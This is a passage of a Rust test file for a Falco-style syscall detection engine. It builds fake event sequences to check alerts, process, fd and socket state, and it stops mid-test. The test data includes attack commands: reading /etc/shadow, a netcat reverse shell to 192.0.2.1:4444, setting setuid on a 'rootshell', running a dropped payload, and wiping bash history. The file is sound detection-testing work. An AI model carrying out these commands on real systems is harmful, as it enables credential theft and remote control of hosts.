//! The engine on hand-built event sequences: state kept by fork/exec/exit and the fd and
//! process syscalls, field values seen by rules, alerts in Falco's shape, interest sets derived
//! from what rules read, and the embedded default rules. A fake `/proc` tree and user database
//! stand in for the machine, so nothing here depends on what runs on it.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use lanner::engine::{self, Alert, Engine, EngineConfig, FdKind, WorkloadContainer};
use lanner_common::decode::sockaddr::SockAddr;
use lanner_common::event::{
    Arg, ArgValue, Creds, DropEvent, ExecEvent, ExitEvent, ExitStatus, ForkEvent, ForkKind,
    SyscallEvent,
};
use lanner_common::spec;
use lanner_common::syscalls::{Abi, SyscallId};
use lanner_common::{Event, EventKind, SyscallSet};

/// Pids of made-up processes: only the fake /proc knows them.
const PID: u32 = 4_000_000;

// ---- events ----

fn syscall(pid: u32, name: &str, values: Vec<ArgValue>, ret: i64) -> Event {
    let id = SyscallId::from_name(name).expect("known syscall");
    let params = spec::lookup(id).expect("spec").params;
    let args = params
        .iter()
        .zip(values)
        .map(|(p, value)| Arg {
            name: p.name,
            ty: Some(p.ty),
            value,
        })
        .collect();
    Event {
        ts: 1_000,
        pid,
        tid: pid,
        kind: EventKind::Syscall(SyscallEvent {
            id,
            abi: Abi::X86_64,
            args,
            ret,
            entry_only: false,
            stale_fds: 0,
        }),
    }
}

fn bytes(s: &str) -> ArgValue {
    ArgValue::Bytes(s.as_bytes().to_vec())
}

fn int(v: i64) -> ArgValue {
    ArgValue::Int(v)
}

fn uint(v: u64) -> ArgValue {
    ArgValue::UInt(v)
}

const AT_FDCWD: i64 = libc::AT_FDCWD as i64;

/// An exec as the drivers report it: the lifecycle event, then the execve syscall's result.
fn exec(pid: u32, path: &str, argv: &[&str]) -> Vec<Event> {
    exec_with_exe(pid, path, argv, path)
}

fn exec_with_exe(pid: u32, path: &str, argv: &[&str], exe: &str) -> Vec<Event> {
    let argv: Vec<Vec<u8>> = argv.iter().map(|a| a.as_bytes().to_vec()).collect();
    vec![
        Event {
            ts: 900,
            pid,
            tid: pid,
            kind: EventKind::Exec(Box::new(ExecEvent {
                filename: path.as_bytes().to_vec(),
                argv: argv.clone(),
                exe: Some(exe.as_bytes().to_vec()),
                former_tid: None,
                creds: None,
                cgroup: None,
            })),
        },
        syscall(
            pid,
            "execve",
            vec![bytes(path), ArgValue::Argv(argv), uint(0)],
            0,
        ),
    ]
}

fn fork(parent: u32, child: u32) -> Event {
    Event {
        ts: 800,
        pid: parent,
        tid: parent,
        kind: EventKind::Fork(ForkEvent {
            child_pid: child,
            child_tid: child,
            kind: ForkKind::Fork,
            thread: false,
        }),
    }
}

fn exit(pid: u32) -> Event {
    Event {
        ts: 2_000,
        pid,
        tid: pid,
        kind: EventKind::Exit(ExitEvent {
            status: ExitStatus::Code(0),
        }),
    }
}

fn openat(pid: u32, path: &str, flags: i32, fd: i64) -> Event {
    syscall(
        pid,
        "openat",
        vec![int(AT_FDCWD), bytes(path), uint(flags as u64), uint(0o644)],
        fd,
    )
}

fn write(pid: u32, fd: i64) -> Event {
    syscall(pid, "write", vec![int(fd), uint(0), uint(1)], 1)
}

fn inet(ip: [u8; 4], port: u16) -> ArgValue {
    ArgValue::SockAddr(SockAddr::Inet {
        addr: ip.into(),
        port,
    })
}

fn tcp_socket(pid: u32, fd: i64) -> Event {
    syscall(
        pid,
        "socket",
        vec![
            int(libc::AF_INET.into()),
            uint(libc::SOCK_STREAM as u64),
            int(0),
        ],
        fd,
    )
}

// ---- the machine ----

/// A fake `/proc` tree, user database and host name, in a scratch directory.
struct Machine {
    dir: PathBuf,
}

impl Machine {
    fn new(name: &str) -> Machine {
        let dir = std::env::temp_dir().join(format!("lanner-engine-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("proc")).expect("scratch dir");
        std::fs::write(
            dir.join("passwd"),
            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/sh\n",
        )
        .expect("passwd");
        std::fs::write(dir.join("group"), "root:x:0:\nalice:x:1000:\n").expect("group");
        Machine { dir }
    }

    fn config(&self) -> EngineConfig {
        EngineConfig {
            proc_root: self.dir.join("proc"),
            passwd: self.dir.join("passwd"),
            group: self.dir.join("group"),
            hostname: Some("test-host".to_owned()),
            ..EngineConfig::default()
        }
    }

    fn proc_dir(&self, pid: u32) -> PathBuf {
        self.dir.join("proc").join(pid.to_string())
    }

    /// A process that existed before the agent.
    fn process(&self, pid: u32, ppid: u32, comm: &str, argv: &[&str], tty: u32, cgroup: &str) {
        let dir = self.proc_dir(pid);
        std::fs::create_dir_all(dir.join("fd")).expect("proc dir");
        let stat = format!(
            "{pid} ({comm}) S {ppid} {pid} {pid} {tty} 0 0 0 0 0 0 0 0 0 0 20 0 1 0 100 0 0"
        );
        std::fs::write(dir.join("stat"), stat).expect("stat");
        let mut cmdline = argv.join("\0");
        cmdline.push('\0');
        std::fs::write(dir.join("cmdline"), cmdline).expect("cmdline");
        std::fs::write(
            dir.join("status"),
            format!("Name:\t{comm}\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\nCapEff:\t0000000000200000\nNSpid:\t{pid}\n"),
        )
        .expect("status");
        std::fs::write(dir.join("loginuid"), "1000").expect("loginuid");
        std::fs::write(dir.join("cgroup"), cgroup).expect("cgroup");
        symlink(format!("/usr/bin/{comm}"), dir.join("exe")).expect("exe");
        symlink("/home/alice", dir.join("cwd")).expect("cwd");
    }

    fn fd(&self, pid: u32, fd: i32, target: &str) {
        symlink(target, self.proc_dir(pid).join("fd").join(fd.to_string())).expect("fd link");
    }

    fn file(&self, pid: u32, name: &str, content: &str) {
        let path = self.proc_dir(pid).join(name);
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).expect("dir");
        }
        std::fs::write(path, content).expect("file");
    }

    fn engine(&self, ruleset: lanner_rules::Ruleset) -> Engine {
        Engine::with_config(ruleset, self.config())
    }

    fn default_engine(&self) -> Engine {
        self.engine(engine::default_ruleset().expect("embedded rules"))
    }

    fn rules(&self, yaml: &str) -> Engine {
        self.engine(lanner_rules::load_str("test.yaml", yaml, Default::default()).expect("rules"))
    }
}

impl Drop for Machine {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn rule(condition: &str, output: &str) -> String {
    format!(
        "- rule: r\n  desc: d\n  condition: {condition}\n  output: |-\n    {output}\n  priority: NOTICE\n"
    )
}

fn run(engine: &mut Engine, events: &[Event]) -> Vec<Alert> {
    let mut alerts = Vec::new();
    for event in events {
        engine.process(event, &mut alerts);
    }
    alerts
}

fn outputs(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|a| a.output.as_str()).collect()
}

fn fired<'a>(alerts: &'a [Alert], rule: &str) -> Option<&'a Alert> {
    alerts.iter().find(|a| a.rule == rule)
}

fn names(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|a| a.rule.as_str()).collect()
}

fn cat_shadow(pid: u32) -> Vec<Event> {
    let mut events = exec(pid, "/bin/sh", &["sh", "-c", "cat /etc/shadow"]);
    events.push(fork(pid, pid + 1));
    events.extend(exec(pid + 1, "/usr/bin/cat", &["cat", "/etc/shadow"]));
    events.push(openat(pid + 1, "/etc/shadow", libc::O_RDONLY, 3));
    events
}

// ---- the default rules, end to end ----

#[test]
fn cat_of_etc_shadow_raises_read_sensitive_file_untrusted() {
    let machine = Machine::new("shadow");
    let mut engine = machine.default_engine();
    let alerts = run(&mut engine, &cat_shadow(PID));
    assert_eq!(names(&alerts), ["Read sensitive file untrusted"]);
    let alert = &alerts[0];
    assert_eq!(alert.priority.name(), "Warning");
    assert_eq!(
        alert.output,
        "Sensitive file opened for reading by non-trusted program | file=/etc/shadow \
         gparent=<NA> ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 \
         user_loginuid=-1 process=cat proc_exepath=/usr/bin/cat parent=sh \
         command=cat /etc/shadow terminal=0"
    );
    let json: serde_json::Value =
        serde_json::from_str(&engine.alert_json(alert)).expect("alert is JSON");
    // What Falcosidekick requires: rule, priority, time, non-empty output_fields.
    assert_eq!(json["rule"], "Read sensitive file untrusted");
    assert_eq!(json["priority"], "Warning");
    assert_eq!(json["source"], "syscall");
    assert_eq!(json["hostname"], "test-host");
    let time = json["time"].as_str().expect("time");
    assert!(time.ends_with('Z') && time.len() == 30, "{time}");
    let fields = &json["output_fields"];
    assert_eq!(fields["fd.name"], "/etc/shadow");
    assert_eq!(fields["proc.name"], "cat");
    assert_eq!(fields["proc.pname"], "sh");
    assert_eq!(fields["user.uid"], 0);
    assert!(fields["proc.aname[2]"].is_null());
    assert!(fields["evt.time"].as_u64().is_some_and(|t| t > 0));
    assert!(json["tags"]
        .as_array()
        .is_some_and(|t| t.iter().any(|t| t == "T1555")));
    let output = json["output"].as_str().expect("output");
    assert!(
        output.contains(": Warning Sensitive file opened"),
        "{output}"
    );
    // The text line: HH:MM:SS.nnnnnnnnn: Priority output
    let text = engine.alert_text(alert);
    assert_eq!(text.find(": Warning "), Some(18), "{text}");
}

/// A setuid program seen by a driver that read its ids at the exec (both do): judged as its new
/// user, although `/proc` still says root (the fake one here; a real one may say nothing, the
/// program having ended).
#[test]
fn the_ids_an_exec_reports_win_over_proc() {
    let m = Machine::new("exec-creds");
    m.process(PID, 1, "bash", &["bash"], 0, "0::/\n");
    let mut engine = m.rules(&rule(
        "evt.type=openat",
        "uid=%user.uid user=%user.name gid=%group.gid",
    ));
    let mut events = exec(PID, "/usr/bin/passwd", &["passwd"]);
    if let EventKind::Exec(exec) = &mut events[0].kind {
        exec.creds = Some(Creds {
            uids: [0, 1000, 1000, 1000],
            gids: [0, 1000, 1000, 1000],
            caps: [0, u64::MAX >> 23, 0],
        });
    }
    events.push(openat(PID, "/etc/shadow", libc::O_RDONLY, 3));
    let alerts = run(&mut engine, &events);
    assert_eq!(outputs(&alerts), ["uid=1000 user=alice gid=1000"]);
}

/// A one-shot `docker exec`: the process joined the container's cgroup and exec'd; the driver
/// read its cgroup at the exec, while `/proc` (read later) may still say host, or nothing once
/// the program has ended. The event wins.
#[test]
fn the_cgroup_an_exec_reports_names_its_container() {
    let id = "4a7b2c9d0e1f3a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b";
    let m = Machine::new("exec-cgroup");
    m.process(
        PID,
        1,
        "runc",
        &["runc", "init"],
        0,
        "0::/system.slice/containerd.service\n",
    );
    let mut engine = m.rules(&rule(
        "evt.type=openat",
        "id=%container.id type=%container.type",
    ));
    let mut events = exec(PID, "/usr/bin/cat", &["cat", "/etc/shadow"]);
    if let EventKind::Exec(exec) = &mut events[0].kind {
        exec.cgroup = Some(format!("0::/system.slice/docker-{id}.scope\n"));
    }
    events.push(openat(PID, "/etc/shadow", libc::O_RDONLY, 3));
    let alerts = run(&mut engine, &events);
    assert_eq!(outputs(&alerts), [format!("id={} type=docker", &id[..12])]);
}

/// The eBPF driver reads the unified hierarchy only: where it names no container, `/proc` is
/// still asked (a container in a cgroup v1 hierarchy, here Docker's cgroupfs driver).
#[test]
fn an_exec_cgroup_without_a_container_leaves_proc_to_tell() {
    let id = "9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0";
    let m = Machine::new("exec-cgroup-v1");
    m.process(
        PID,
        1,
        "sh",
        &["sh"],
        0,
        &format!("4:memory:/docker/{id}\n0::/\n"),
    );
    let mut engine = m.rules(&rule("evt.type=openat", "id=%container.id"));
    let mut events = exec(PID, "/usr/bin/cat", &["cat", "/etc/shadow"]);
    if let EventKind::Exec(exec) = &mut events[0].kind {
        exec.cgroup = Some("0::/system.slice/containerd.service\n".into());
    }
    events.push(openat(PID, "/etc/shadow", libc::O_RDONLY, 3));
    let alerts = run(&mut engine, &events);
    assert_eq!(outputs(&alerts), [format!("id={}", &id[..12])]);
}

#[test]
fn trusted_readers_and_ordinary_files_raise_nothing() {
    let machine = Machine::new("benign");
    let mut engine = machine.default_engine();
    let mut events = exec(PID, "/usr/bin/cat", &["cat", "/etc/hostname"]);
    events.push(openat(PID, "/etc/hostname", libc::O_RDONLY, 3));
    events.extend(exec(PID + 5, "/usr/sbin/sshd", &["sshd"]));
    events.push(openat(PID + 5, "/etc/shadow", libc::O_RDONLY, 3));
    let alerts = run(&mut engine, &events);
    assert!(alerts.is_empty(), "{alerts:?}");
}

#[test]
fn failed_execs_do_not_count_as_spawned_processes() {
    let machine = Machine::new("failed-exec");
    let mut engine = machine.default_engine();
    let mut events = exec(PID, "/bin/sh", &["sh", "-c", "nmap x"]);
    // The shell tries PATH entries: the failures are the shell's own events.
    for dir in ["/usr/local/sbin", "/usr/local/bin"] {
        events.push(syscall(
            PID,
            "execve",
            vec![
                bytes(&format!("{dir}/nmap")),
                ArgValue::Argv(vec![]),
                uint(0),
            ],
            -i64::from(libc::ENOENT),
        ));
    }
    events.extend(exec(PID, "/usr/bin/nmap", &["nmap", "x"]));
    let alerts = run(&mut engine, &events);
    assert_eq!(
        names(&alerts),
        ["Launch suspicious network tool by workload"]
    );
}

#[test]
fn reverse_shell_shapes() {
    let machine = Machine::new("revshell");
    let mut engine = machine.default_engine();
    let mut events = exec(
        PID,
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "192.0.2.1", "4444"],
    );
    events.push(tcp_socket(PID, 3));
    events.push(syscall(
        PID,
        "connect",
        vec![int(3), inet([192, 0, 2, 1], 4444), uint(16)],
        0,
    ));
    for std in 0..3 {
        events.push(syscall(PID, "dup2", vec![int(3), int(std)], std));
    }
    let alerts = run(&mut engine, &events);
    let fired_names = names(&alerts);
    assert!(
        fired_names.contains(&"Netcat remote shell by workload"),
        "{fired_names:?}"
    );
    assert!(fired_names.contains(&"Launch suspicious network tool by workload"));
    let redirects: Vec<&Alert> = alerts
        .iter()
        .filter(|a| a.rule == "Redirect stdout/stdin to network connection by workload")
        .collect();
    assert_eq!(redirects.len(), 3, "{fired_names:?}");
    assert!(
        redirects[0].output.contains(
            "connection=0.0.0.0:0->192.0.2.1:4444 lport=<NA> rport=4444 fd_type=ipv4 fd_proto=tcp"
        ),
        "{}",
        redirects[0].output
    );
}

#[test]
fn dropped_binary_executed() {
    let machine = Machine::new("drop");
    let mut engine = machine.default_engine();
    let mut events = exec(PID, "/bin/sh", &["sh"]);
    events.push(syscall(PID, "chdir", vec![bytes("/tmp")], 0));
    events.push(openat(
        PID,
        "payload",
        libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
        3,
    ));
    events.push(syscall(PID, "close", vec![int(3)], 0));
    events.push(fork(PID, PID + 1));
    // The drivers report the executable's path as /proc/PID/exe has it: absolute.
    events.extend(exec_with_exe(
        PID + 1,
        "./payload",
        &["./payload"],
        "/tmp/payload",
    ));
    events.push(fork(PID, PID + 2));
    events.extend(exec(PID + 2, "/usr/bin/id", &["id"]));
    let alerts = run(&mut engine, &events);
    assert_eq!(names(&alerts), ["Drop and execute new binary by workload"]);
    assert!(
        alerts[0].output.contains("proc_exepath=/tmp/payload"),
        "{}",
        alerts[0].output
    );
    assert!(
        alerts[0].output.contains("proc_cwd=/tmp/"),
        "{}",
        alerts[0].output
    );
}

#[test]
fn fileless_and_file_system_rules() {
    let machine = Machine::new("fs-rules");
    let mut engine = machine.default_engine();
    let mut events = exec_with_exe(PID, "", &["x"], "/memfd:x (deleted)");
    events.extend(exec(PID + 1, "/bin/sh", &["sh"]));
    events.push(syscall(
        PID + 1,
        "symlinkat",
        vec![bytes("/etc/shadow"), int(AT_FDCWD), bytes("s")],
        0,
    ));
    events.push(syscall(
        PID + 1,
        "chmod",
        vec![bytes("/tmp/rootshell"), uint(0o4755)],
        0,
    ));
    events.push(syscall(PID + 1, "chdir", vec![bytes("/usr/bin")], 0));
    events.push(syscall(
        PID + 1,
        "unlinkat",
        vec![int(AT_FDCWD), bytes("ls"), uint(0)],
        0,
    ));
    events.push(openat(
        PID + 1,
        "/root/.bash_history",
        libc::O_WRONLY | libc::O_TRUNC,
        4,
    ));
    let alerts = run(&mut engine, &events);
    let fired_names = names(&alerts);
    for rule in [
        "Fileless execution via memfd_create",
        "Create Symlink Over Sensitive Files",
        "Set setuid or setgid bit by workload",
        "Modify binary dirs by workload",
        "Delete or rename shell history by workload",
    ] {
        assert!(fired_names.contains(&rule), "{rule} not in {fired_names:?}");
    }
    let modify = fired(&alerts, "Modify binary dirs by workload").expect("modify");
    assert!(
        modify.output.contains("path=/usr/bin/ls"),
        "{}",
        modify.output
    );
    let setuid = fired(&alerts, "Set setuid or setgid bit by workload").expect("setuid");
    assert!(
        setuid.output.contains("file=/tmp/rootshell"),
        "{}",
        setuid.output
    );
    assert!(setuid.output.contains("S_ISUID"), "{}", setuid.output);
}

#[test]
fn terminal_shell_under_lanner_in_a_container() {
    let machine = Machine::new("tty");
    let id = "3f0c8a5e9b1d2c4f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f";
    let cgroup = format!("0::/system.slice/docker-{id}.scope\n");
    machine.process(
        PID + 10,
        1,
        "lanner",
        &["lanner", "run", "--", "bash"],
        34816,
        &cgroup,
    );
    let mut engine = machine.default_engine();
    let mut events = vec![fork(PID + 10, PID + 11)];
    events.extend(exec(PID + 11, "/bin/bash", &["bash"]));
    let alerts = run(&mut engine, &events);
    let alert =
        fired(&alerts, "Terminal shell in container").unwrap_or_else(|| panic!("{alerts:?}"));
    assert!(alert.output.contains("parent=lanner"), "{}", alert.output);
    assert!(alert.output.contains("terminal=34816"), "{}", alert.output);
    let process = engine.state().process(PID + 11).expect("child known");
    assert_eq!(process.container_id(), &id[..12]);
}

#[test]
fn the_default_rules_compile_entirely_and_every_field_is_served() {
    let ruleset = engine::default_ruleset().expect("embedded rules");
    let summary = ruleset.summary();
    assert!(summary.skipped.is_empty(), "{summary}");
    assert!(summary.warnings.is_empty(), "{summary}");
    assert!(summary.compiled >= 35, "{summary}");
    assert_eq!(summary.disabled, 0, "{summary}");
    assert!(
        engine::unserved_fields().is_empty(),
        "{:?}",
        engine::unserved_fields()
    );
}

#[test]
fn upstream_falco_rules_load_with_only_the_kubernetes_rule_skipped() {
    // The upstream file as vendored in the repository (Apache-2.0, see agent/rules/).
    let upstream = include_str!("../rules/falco_rules.yaml");
    let ruleset = lanner_rules::load_str("falco_rules.yaml", upstream, Default::default())
        .expect("upstream rules load");
    let skipped: Vec<&str> = ruleset
        .summary()
        .skipped
        .iter()
        .map(|w| w.rule.as_str())
        .collect();
    assert_eq!(skipped, ["Contact K8S API Server From Container"]);
    let machine = Machine::new("upstream");
    let mut engine = machine.engine(ruleset);
    let alerts = run(&mut engine, &cat_shadow(PID));
    assert_eq!(names(&alerts), ["Read sensitive file untrusted"]);
}

// ---- state and fields ----

#[test]
fn ancestors_users_and_containers_come_from_proc() {
    let machine = Machine::new("ancestors");
    let cgroup = format!(
        "0::/ecs/{t}/{t}-3862148426\n",
        t = "0123456789abcdef0123456789abcdef"
    );
    machine.process(
        PID + 100,
        1,
        "systemd",
        &["/sbin/init"],
        0,
        "0::/init.scope\n",
    );
    machine.process(PID + 101, PID + 100, "sshd", &["sshd: alice"], 0, "0::/\n");
    machine.process(PID + 102, PID + 101, "bash", &["-bash"], 34816, &cgroup);
    let mut engine = machine.rules(&rule(
        "evt.type=openat",
        "%proc.name %proc.pname %proc.aname[2] %proc.aname[3] %proc.apid[2] %proc.cwd %proc.tty \
         %user.loginname %user.name %container.id %container.type %thread.cap_effective \
         %proc.loginshellid %proc.vpid %proc.is_exe_upper_layer %container.image",
    ));
    let mut events = vec![fork(PID + 102, PID + 103)];
    events.extend(exec(PID + 103, "/usr/bin/cat", &["cat", "x"]));
    events.push(openat(PID + 103, "x", libc::O_RDONLY, 3));
    let alerts = run(&mut engine, &events);
    assert_eq!(
        outputs(&alerts),
        [format!(
            "cat bash sshd systemd {} /home/alice/ 34816 alice root \
             0123456789abcdef0123456789abcdef-3862148426 ecs CAP_SYS_ADMIN {} {} false <NA>",
            PID + 101,
            PID + 102,
            PID + 103
        )]
    );
    assert_eq!(engine.state().len(), 4);
}

#[test]
fn process_state_follows_credentials_sessions_and_exit() {
    let machine = Machine::new("creds");
    let mut engine = machine.rules(
        "- rule: exit\n  desc: d\n  condition: evt.type=procexit and proc.pname=bash\n  output: gone %proc.name parent=%proc.pname uid=%user.uid user=%user.name gid=%group.gid group=%group.name tty=%proc.tty sid=%proc.sid sname=%proc.sname\n  priority: INFO\n",
    );
    let mut events = exec(PID, "/bin/bash", &["bash"]);
    events.push(fork(PID, PID + 1));
    events.extend(exec(PID + 1, "/usr/bin/true", &["true"]));
    events.push(syscall(PID + 1, "setsid", vec![], i64::from(PID + 1)));
    events.push(syscall(PID + 1, "setgid", vec![uint(1000)], 0));
    events.push(syscall(
        PID + 1,
        "setresuid",
        vec![uint(1000), uint(1000), uint(u64::from(u32::MAX))],
        0,
    ));
    events.push(exit(PID + 1));
    let alerts = run(&mut engine, &events);
    assert_eq!(
        outputs(&alerts),
        [format!(
            "gone true parent=bash uid=1000 user=alice gid=1000 group=alice tty=0 sid={} sname=true",
            PID + 1
        )]
    );
    assert!(
        engine.state().process(PID + 1).is_none(),
        "exited process kept"
    );
    assert!(engine.state().process(PID).is_some());
}

#[test]
fn threads_share_their_process() {
    let machine = Machine::new("threads");
    let mut engine = machine.rules(&rule("evt.type=openat", "%proc.name %thread.tid %fd.name"));
    let mut events = exec(PID, "/usr/bin/app", &["app"]);
    events.push(Event {
        ts: 1,
        pid: PID,
        tid: PID,
        kind: EventKind::Fork(ForkEvent {
            child_pid: PID,
            child_tid: PID + 7,
            kind: ForkKind::Clone,
            thread: true,
        }),
    });
    let mut open = openat(PID, "/data", libc::O_RDONLY, 3);
    open.tid = PID + 7;
    events.push(open);
    let alerts = run(&mut engine, &events);
    assert_eq!(outputs(&alerts), [format!("app {} /data", PID + 7)]);
    assert_eq!(engine.state().len(), 1);
    let fds = &engine.state().process(PID).expect("process").fds;
    assert!(fds.get(3).is_some(), "thread's fd is the process's");
}

#[test]
fn fd_state_follows_open_dup_close_and_relative_paths() {
    let machine = Machine::new("fds");
    let mut engine = machine.rules(&rule(
        "evt.type in (write, close) and fd.name startswith /tmp",
        "%evt.type %fd.name %fd.num %fd.nameraw %fd.directory %fd.filename %fd.typechar",
    ));
    let mut events = exec(PID, "/usr/bin/app", &["app"]);
    events.push(syscall(PID, "chdir", vec![bytes("/tmp/x")], 0));
    events.push(openat(PID, "../out.log", libc::O_WRONLY | libc::O_CREAT, 5));
    events.push(syscall(PID, "dup2", vec![int(5), int(1)], 1));
    events.push(write(PID, 1));
    events.push(syscall(PID, "close", vec![int(1)], 0));
    events.push(write(PID, 1));
    let alerts = run(&mut engine, &events);
    assert_eq!(
        outputs(&alerts),
        [
            "write /tmp/out.log 1 ../out.log /tmp out.log f",
            // The close itself still sees what it closes; the write after it does not.
            "close /tmp/out.log 1 ../out.log /tmp out.log f",
        ]
    );
}

#[test]
fn failed_opens_are_files_with_fd_minus_one() {
    let machine = Machine::new("failed-open");
    let mut engine = machine.rules(&rule(
        "evt.type=openat and fd.typechar='f' and fd.num=-1 and evt.res startswith E",
        "%fd.name %evt.res %evt.rawres %evt.failed",
    ));
    let mut events = exec(PID, "/usr/bin/app", &["app"]);
    events.push(openat(
        PID,
        "/root/.ssh/id_rsa",
        libc::O_RDONLY,
        -i64::from(libc::EACCES),
    ));
    let alerts = run(&mut engine, &events);
    assert_eq!(outputs(&alerts), ["/root/.ssh/id_rsa EACCES -13 true"]);
    assert!(engine.state().process(PID).expect("process").fds.is_empty());
}

#[test]
fn close_on_exec_fds_go_at_exec() {
    let machine = Machine::new("cloexec");
    let mut engine = machine.rules(&rule("evt.type=write", "%fd.num=%fd.name"));
    let mut events = exec(PID, "/bin/sh", &["sh"]);
    events.push(openat(PID, "/kept", libc::O_RDONLY, 3));
    events.push(openat(PID, "/gone", libc::O_RDONLY | libc::O_CLOEXEC, 4));
    events.push(syscall(
        PID,
        "dup3",
        vec![int(3), int(5), uint(libc::O_CLOEXEC as u64)],
        5,
    ));
    events.push(tcp_socket(PID, 6));
    events.push(syscall(
        PID,
        "socket",
        vec![
            int(libc::AF_INET.into()),
            uint((libc::SOCK_STREAM | libc::SOCK_CLOEXEC) as u64),
            int(0),
        ],
        7,
    ));
    events.push(syscall(
        PID,
        "fcntl",
        vec![int(6), int(libc::F_SETFD.into()), uint(1)],
        0,
    ));
    events.extend(exec(PID, "/usr/bin/app", &["app"]));
    events.extend((3..8).map(|fd| write(PID, fd)));
    let alerts = run(&mut engine, &events);
    // Unknown fds show as <NA>: the fake /proc has no fd links for them.
    assert_eq!(
        outputs(&alerts),
        ["3=/kept", "4=<NA>", "5=<NA>", "6=<NA>", "7=<NA>"]
    );
}

#[test]
fn socket_fields_from_socket_connect_bind_and_accept() {
    let machine = Machine::new("sockets");
    let mut engine = machine.rules(&rule(
        "evt.type in (connect, accept4, sendto)",
        "%evt.type %fd.name %fd.sip %fd.sport %fd.cip %fd.rip %fd.lport %fd.typechar %fd.l4proto \
         %fd.sockfamily %fd.is_server %fd.connected %fd.name_changed",
    ));
    let mut events = exec(PID, "/usr/bin/curl", &["curl"]);
    events.push(tcp_socket(PID, 4));
    events.push(syscall(
        PID,
        "connect",
        vec![int(4), inet([10, 0, 0, 1], 443), uint(16)],
        0,
    ));
    events.push(tcp_socket(PID, 5));
    events.push(syscall(
        PID,
        "bind",
        vec![int(5), inet([0, 0, 0, 0], 8080), uint(16)],
        0,
    ));
    events.push(syscall(
        PID,
        "accept4",
        vec![int(5), inet([192, 0, 2, 9], 50000), uint(0), uint(0)],
        6,
    ));
    events.push(syscall(
        PID,
        "socket",
        vec![
            int(libc::AF_INET.into()),
            uint(libc::SOCK_DGRAM as u64),
            int(0),
        ],
        7,
    ));
    events.push(syscall(
        PID,
        "sendto",
        vec![
            int(7),
            uint(0),
            uint(10),
            uint(0),
            inet([8, 8, 8, 8], 53),
            uint(16),
        ],
        10,
    ));
    let alerts = run(&mut engine, &events);
    assert_eq!(
        outputs(&alerts),
        [
            "connect 0.0.0.0:0->10.0.0.1:443 10.0.0.1 443 <NA> 10.0.0.1 <NA> 4 tcp ip false true true",
            "accept4 192.0.2.9:50000->0.0.0.0:8080 0.0.0.0 8080 192.0.2.9 192.0.2.9 8080 4 tcp ip true true false",
            "sendto 0.0.0.0:0->8.8.8.8:53 8.8.8.8 53 <NA> 8.8.8.8 <NA> 4 udp ip false false true",
        ]
    );
}

/// A driver that leaves closes out marks a descriptor argument stale when its number was
/// closed since it told of it: the table's entry (the file) is forgotten and /proc asked (a pipe
/// took the number). Unmarked, the entry stands.
#[test]
fn descriptors_marked_stale_are_read_again_from_proc() {
    let machine = Machine::new("stale-fd");
    machine.process(PID + 40, 1, "app", &["app"], 0, "0::/init.scope\n");
    machine.fd(PID + 40, 5, "pipe:[31]");
    let mut engine = machine.rules(&rule("evt.type=dup2", "%fd.num %fd.type %fd.name"));
    let dup2 = |stale_fds| {
        let mut event = syscall(PID + 40, "dup2", vec![int(5), int(40)], 40);
        if let EventKind::Syscall(call) = &mut event.kind {
            call.stale_fds = stale_fds;
        }
        event
    };
    let opened = openat(PID + 40, "/etc/hostname", libc::O_RDONLY, 5);
    let alerts = run(&mut engine, &[opened.clone(), dup2(0)]);
    assert_eq!(outputs(&alerts), ["40 file /etc/hostname"]);
    let alerts = run(&mut engine, &[opened, dup2(0b11)]);
    assert_eq!(outputs(&alerts), ["40 pipe pipe"]);
}

#[test]
fn unknown_fds_are_read_from_proc_when_a_rule_needs_them() {
    let machine = Machine::new("lazy-fd");
    machine.process(PID + 20, 1, "app", &["app"], 0, "0::/init.scope\n");
    machine.fd(PID + 20, 5, "/etc/passwd");
    machine.fd(PID + 20, 6, "socket:[777]");
    machine.fd(PID + 20, 7, "pipe:[12]");
    machine.file(
        PID + 20,
        "net/tcp",
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n\
         0: 0201A8C0:D431 0101A8C0:01BB 01 00000000:00000000 00:00000000 00000000 0 0 777 1\n",
    );
    let mut engine = machine.rules(&rule("evt.type=write", "%fd.num %fd.type %fd.name"));
    let events: Vec<Event> = (5..9).map(|fd| write(PID + 20, fd)).collect();
    let alerts = run(&mut engine, &events);
    assert_eq!(
        outputs(&alerts),
        [
            "5 file /etc/passwd",
            "6 ipv4 192.168.1.2:54321->192.168.1.1:443",
            "7 pipe pipe",
            "8 unknown <NA>",
        ]
    );
    let fds = &engine.state().process(PID + 20).expect("process").fds;
    assert!(
        matches!(fds.get(8).map(|f| &f.kind), Some(FdKind::Unknown(_))),
        "a miss is remembered"
    );
}

#[test]
fn alerts_show_the_local_end_of_a_connection_from_proc() {
    let machine = Machine::new("local-end");
    machine.process(PID + 30, 1, "curl", &["curl"], 0, "0::/init.scope\n");
    machine.fd(PID + 30, 3, "socket:[888]");
    machine.file(
        PID + 30,
        "net/tcp",
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n\
         0: 0500000A:9C40 0100000A:01BB 01 00000000:00000000 00:00000000 00000000 0 0 888 1\n",
    );
    let mut engine = machine.rules(
        "- rule: out\n  desc: d\n  condition: evt.type=connect\n  output: |-\n    %fd.name %fd.lport %fd.cip\n  priority: NOTICE\n\
         - rule: never\n  desc: d\n  condition: evt.type=connect and fd.lport=40000\n  output: o\n  priority: NOTICE\n",
    );
    let alerts = run(
        &mut engine,
        &[
            tcp_socket(PID + 30, 3),
            syscall(
                PID + 30,
                "connect",
                vec![int(3), inet([10, 0, 0, 1], 443), uint(16)],
                0,
            ),
        ],
    );
